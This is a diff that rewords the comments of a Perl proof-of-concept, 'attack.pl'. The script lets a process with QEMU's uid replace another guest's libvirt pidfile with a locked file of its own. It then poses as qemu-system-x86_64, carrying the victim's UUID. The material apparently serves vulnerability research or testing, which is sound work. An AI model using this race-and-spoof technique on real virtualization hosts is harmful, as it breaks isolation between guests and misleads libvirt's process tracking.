@@ -1,10 +1,10 @@
 #!/usr/bin/perl
-# What a process of QEMU's user can do to libvirt's pidfile of another guest, without a capability.
+# An attack of a process with QEMU's uid on libvirt's pidfile of another guest, without a capability.
 #
 #   attack.pl KIND PIDFILE UUID [OWN-PIDFILE]
 #
-# Waits until libvirt has read the pidfile: libvirt itself fails otherwise, and viommu has nothing to answer for. Then it puts
-# something else in its place, and lives until it is killed, under a command line that names the guest.
+# Waits until libvirt has read the pidfile, because otherwise libvirt itself fails. Then it replaces the pidfile, and lives
+# until it is killed, with a command line that contains the guest's UUID.
 use strict;
 use warnings;
 use Fcntl qw(F_SETLK F_WRLCK SEEK_SET);
@@ -13,7 +13,7 @@ $^F = 255;
 my ($kind, $pidfile, $uuid, $own) = @ARGV;
 my $made = "$pidfile.$$";
 if ($kind eq 'lock') {
-    # As libvirt's child does: fcntl, the first byte, then the number.
+    # In libvirt's way: fcntl on the first byte, then the number.
     open(my $file, '>', $made) or die "$made: $!";
     my $lock = pack('s s x4 q q i x4', F_WRLCK, SEEK_SET, 0, 1, 0);
     fcntl($file, F_SETLK, $lock) or die "lock: $!";
@@ -29,5 +29,5 @@ if ($kind eq 'lock') {
 select(undef, undef, undef, 0.005) until -s $pidfile;
 select(undef, undef, undef, 0.02);
 rename($made, $pidfile) or die "rename: $!";
-# QEMU's name and arguments; the descriptor with the lock stays.
+# QEMU's name and arguments; the locked descriptor stays open.
 exec { '/bin/bash' } 'qemu-system-x86_64', '-c', 'while :; do sleep 1; done', 'qemu', '-name', 'guest=victim', '-uuid', $uuid;
